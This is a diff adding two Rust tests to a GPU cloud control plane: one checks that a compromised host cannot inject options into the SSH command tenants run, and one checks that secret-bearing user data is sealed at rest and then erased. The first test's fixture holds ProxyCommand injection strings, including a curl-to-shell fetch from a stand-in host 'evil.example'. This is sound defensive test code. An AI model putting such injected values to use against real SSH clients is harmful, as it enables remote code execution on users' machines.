@@ -2823,3 +2823,136 @@ async fn a_page_of_several_projects_is_newest_first_across_them_without_gaps_or_
         assert_eq!(page.items.len(), expect, "{asked}");
     }
 }
+
+/// A host's provision result names where to connect, but a compromised host must not choose
+/// the text a tenant's `ssh` runs: the endpoint a tenant sees is what the platform planned (the
+/// node's public address, the slot's SSH port, the listing's SSH user), whatever the host
+/// says; and the database refuses a host or user that is not a name, whoever writes it.
+#[tokio::test]
+async fn a_host_cannot_choose_the_ssh_command_a_tenant_runs() {
+    let (_db, cp, ops) = setup().await;
+    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
+    let bob = member(&cp, BOB, ACME_RESEARCH).await;
+    let id = launch(&cp, &bob, "h100.2x", "train-1").await.unwrap();
+    answer(&cp, &agent, PROVISION, |_| TaskOutcome::Succeeded {
+        output: TaskOutput::Provisioned(agent_protocol::Provisioned {
+            ssh_host: "evil.example -oProxyCommand=curl${IFS}evil.example|sh".into(),
+            ssh_port: 2,
+            ssh_user: "u -oProxyCommand=touch /tmp/owned".into(),
+        }),
+    })
+    .await;
+    assert_eq!(state(&cp, id).await.0, "running");
+
+    let principal = cp.principal(BOB).await.unwrap().unwrap();
+    let d = cp.allocation(&principal, id).await.unwrap();
+    let planned = control_plane::allocations::SshEndpoint {
+        host: "gpu-a".into(),
+        port: 22000,
+        user: "ubuntu".into(),
+    };
+    assert_eq!(d.ssh_endpoint.as_ref(), Some(&planned));
+    assert_eq!(d.ssh.as_deref(), Some("ssh -p 22000 ubuntu@gpu-a"));
+    let page = cp
+        .allocation_page(
+            &[
+                in_project::<control_plane::tenancy::ProjectViewers>(
+                    &cp,
+                    &principal,
+                    ACME_RESEARCH,
+                )
+                .await,
+            ],
+            &control_plane::allocations::AllocationFilter {
+                state: None,
+                tag: None,
+                after: None,
+                limit: 10,
+            },
+        )
+        .await
+        .unwrap();
+    assert_eq!(page.items[0].ssh_endpoint.as_ref(), Some(&planned));
+    assert_eq!(
+        planned.argv(["nvidia-smi".to_owned()]),
+        ["ssh", "-p", "22000", "--", "ubuntu@gpu-a", "nvidia-smi"]
+    );
+
+    for (update, constraint) in [
+        (
+            "UPDATE allocations SET ssh_user = 'u -oProxyCommand=x'",
+            "allocations_ssh_user_form",
+        ),
+        (
+            "UPDATE allocations SET ssh_host = '-oProxyCommand=x'",
+            "allocations_ssh_host_form",
+        ),
+        (
+            "UPDATE allocations SET ssh_host = 'a b.example'",
+            "allocations_ssh_host_form",
+        ),
+        (
+            "UPDATE allocations SET ssh_port = 0",
+            "allocations_ssh_port_range",
+        ),
+    ] {
+        test_db::fixtures::assert_db_refuses(&cp, update, constraint).await;
+    }
+    // An address is a host too.
+    for host in ["203.0.113.7", "2001:db8::7"] {
+        sqlx::query("UPDATE allocations SET ssh_host = $1 WHERE id = $2")
+            .bind(host)
+            .bind(id.0)
+            .execute(cp.pool())
+            .await
+            .unwrap();
+    }
+}
+
+/// A tenant's user data may carry their secrets: it is sealed in the allocation and in its
+/// provision task, handed open only to the agent that claims the task, and forgotten by both
+/// once the provision has answered.
+#[tokio::test]
+async fn user_data_is_sealed_at_rest_handed_open_to_its_agent_and_then_forgotten() {
+    let (_db, cp, ops) = setup().await;
+    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
+    let bob = member(&cp, BOB, ACME_RESEARCH).await;
+    let doc = "#cloud-config\nwrite_files:\n- path: /etc/registry-token\n  content: s3cret-registry-token\n";
+    let id = cp
+        .launch(
+            &bob,
+            &LaunchRequest {
+                user_data: Some(doc.into()),
+                ..request("h100.2x", "with-user-data")
+            },
+            None,
+        )
+        .await
+        .unwrap()
+        .id;
+    let at_rest: String = sqlx::query_scalar(
+        "SELECT a.user_data_sealed || coalesce(a.user_data, '') || t.spec::text
+         FROM allocations a JOIN agent_tasks t ON t.allocation_id = a.id WHERE a.id = $1",
+    )
+    .bind(id.0)
+    .fetch_one(cp.pool())
+    .await
+    .unwrap();
+    assert!(!at_rest.contains("s3cret-registry-token"), "{at_rest}");
+
+    let spec = answer(&cp, &agent, PROVISION, provisioned).await;
+    let TaskSpec::VmProvision(plan) = &spec else {
+        panic!("{spec:?}")
+    };
+    assert_eq!(plan.user_data.as_deref(), Some(doc));
+    let left: (Option<String>, Option<String>, bool) = sqlx::query_as(
+        "SELECT a.user_data, a.user_data_sealed, t.spec ?| ARRAY['user_data', 'user_data_sealed']
+         FROM allocations a JOIN agent_tasks t ON t.allocation_id = a.id WHERE a.id = $1",
+    )
+    .bind(id.0)
+    .fetch_one(cp.pool())
+    .await
+    .unwrap();
+    assert_eq!(left, (None, None, false));
+    assert_eq!(state(&cp, id).await.0, "running");
+}
